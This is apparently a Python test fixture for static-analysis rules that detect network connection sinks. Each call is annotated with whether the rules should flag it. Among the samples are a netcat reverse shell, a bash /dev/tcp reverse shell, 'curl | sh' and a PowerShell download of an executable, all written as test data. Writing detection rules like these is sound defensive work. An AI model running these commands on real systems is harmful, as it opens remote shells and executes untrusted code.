# Every member of `sinks network-hosts` and `sinks network-destinations`, and look-alikes
# that are not. Each line is about where the code connects to: the URL or host argument.
import ftplib
import http.client
import imaplib
import os
import smtplib
import socket
import subprocess
import telnetlib
import urllib.request
import webbrowser

import aiohttp
import dns.resolver
import httpx
import paramiko
import requests
import torch
import urllib3
import websocket
import websockets
from pyngrok import ngrok


def hosts(sock, host, data):
    # ruleid: sinks.network-hosts, sinks.network-destinations
    sock.connect((host, 4444))
    # ruleid: sinks.network-hosts, sinks.network-destinations
    sock.connect_ex((host, 22))
    sock.sendto(
        data,
        # ruleid: sinks.network-hosts, sinks.network-destinations
        (host, 53),
    )
    # ruleid: sinks.network-hosts, sinks.network-destinations
    socket.create_connection((host, 443), timeout=5)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    socket.gethostbyname(host)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    socket.getaddrinfo(host, 443)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    http.client.HTTPSConnection(host, 443)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    http.client.HTTPConnection(host=host)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    ftplib.FTP(host)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    smtplib.SMTP(host, 587)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    smtplib.SMTP_SSL(host=host)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    imaplib.IMAP4_SSL(host)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    telnetlib.Telnet(host, 23)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    urllib3.HTTPConnectionPool(host, port=80)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    dns.resolver.resolve(host, "TXT")
    client = paramiko.SSHClient()
    # ruleid: sinks.network-hosts, sinks.network-destinations
    client.connect(host, username="root")
    # ruleid: sinks.network-hosts, sinks.network-destinations
    client.connect(hostname=host, username="root")
    # ruleid: sinks.network-hosts, sinks.network-destinations
    subprocess.run(["nc", host, "4444"])
    # ruleid: sinks.network-hosts, sinks.network-destinations
    os.system(f"nc -e /bin/sh {host} 4444")
    # ruleid: sinks.network-hosts, sinks.network-destinations
    os.system(f"bash -i >& /dev/tcp/{host}/4444 0>&1")
    # pyngrok's connect opens a tunnel for a local server; it connects to nothing named here.
    # ok: sinks.network-hosts, sinks.network-destinations
    ngrok.connect(7860, hostname=host)
    # Binding a listening socket chooses where to listen, not where to connect.
    # ok: sinks.network-hosts, sinks.network-destinations
    sock.bind(("0.0.0.0", 8000))
    # ok: sinks.network-hosts, sinks.network-destinations
    socket.gethostname()
    # ok: sinks.network-hosts, sinks.network-destinations
    print(host)


def urls(url, session, pool, data):
    # ok: sinks.network-hosts
    # ruleid: sinks.network-destinations
    requests.get(url, timeout=10)
    # ruleid: sinks.network-destinations
    requests.post(url=url, data=data)
    requests.request(
        "GET",
        # ruleid: sinks.network-destinations
        url,
    )
    # ruleid: sinks.network-destinations
    httpx.post(url, json=data)
    # ruleid: sinks.network-destinations
    httpx.request("GET", url)
    # ruleid: sinks.network-destinations
    urllib.request.urlopen(url)
    # ruleid: sinks.network-destinations
    urllib.request.Request(url, data=data)
    # ruleid: sinks.network-destinations
    urllib.request.urlretrieve(url, "/tmp/x")
    # ruleid: sinks.network-destinations
    urllib3.request("GET", url)
    # ruleid: sinks.network-destinations
    pool.request("GET", url)
    # ruleid: sinks.network-destinations
    pool.urlopen("GET", url)
    # ruleid: sinks.network-destinations
    session.post(url, data=data)
    # ruleid: sinks.network-destinations
    session.get(url)
    # ruleid: sinks.network-destinations
    requests.Session().get(url)
    # ruleid: sinks.network-destinations
    httpx.Client(base_url=url)
    # ruleid: sinks.network-destinations
    webbrowser.open(url)
    # ruleid: sinks.network-destinations
    websocket.create_connection(url)
    # ruleid: sinks.network-hosts, sinks.network-destinations
    websockets.connect(url)
    # ruleid: sinks.network-destinations
    torch.hub.download_url_to_file(url, "/tmp/w.pt")
    opener = urllib.request.build_opener()
    # ruleid: sinks.network-destinations
    opener.open(url)
    with requests.Session() as s:
        # ruleid: sinks.network-destinations
        s.delete(url)
    # The data sent is not where it goes.
    requests.post(
        # ruleid: sinks.network-destinations
        "https://example.org/api",
        # ok: sinks.network-hosts, sinks.network-destinations
        data=url,
    )
    # A dict's get is no request.
    # ok: sinks.network-destinations
    {"a": 1}.get(url)
    # ok: sinks.network-destinations
    os.environ.get(url)
    # ok: sinks.network-destinations
    open(url)


async def async_urls(url):
    async with aiohttp.ClientSession() as http:
        # ruleid: sinks.network-destinations
        await http.get(url)
    async with httpx.AsyncClient() as c:
        # ruleid: sinks.network-destinations
        await c.head(url)
    # ruleid: sinks.network-destinations
    await aiohttp.request("GET", url)


def commands(url):
    # ruleid: sinks.network-destinations
    os.system(f"curl -fsSL {url} | sh")
    # ruleid: sinks.network-destinations
    subprocess.run(f"wget -q {url}", shell=True)
    # ruleid: sinks.network-destinations
    subprocess.run(["curl", "-o", "/tmp/x", url])
    # ruleid: sinks.network-destinations
    subprocess.Popen(["powershell.exe", "-c", f"iwr {url} -OutFile x.exe"])
    # ok: sinks.network-hosts, sinks.network-destinations
    subprocess.run(["git", "status"])
    # ok: sinks.network-hosts, sinks.network-destinations
    subprocess.run(["echo", url])
